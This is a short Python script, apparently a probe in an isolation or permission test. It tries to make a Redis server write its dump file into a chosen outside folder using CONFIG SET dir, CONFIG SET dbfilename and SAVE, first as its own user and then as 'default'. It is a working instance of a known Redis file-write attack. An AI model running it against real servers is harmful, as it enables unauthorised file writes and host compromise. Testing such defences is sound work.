"""Has Redis write a file outside: CONFIG SET dir, SAVE, with its own user and as `default`."""

import os
import urllib.parse

import redis
from kit import TARGETS
from redis.backoff import NoBackoff
from redis.retry import Retry

ONCE = Retry(NoBackoff(), 0)


def attack() -> None:
    own = urllib.parse.urlsplit(os.environ["REDIS_URL"])
    last: Exception | None = None
    for user in (own.username, "default", None):
        client = redis.Redis(port=own.port, username=user, password=own.password, retry=ONCE)
        try:
            client.config_set("dir", TARGETS["folder"])
            client.config_set("dbfilename", "dumped.rdb")
            client.save()
            return
        except redis.RedisError as error:
            last = error
    raise PermissionError(str(last))
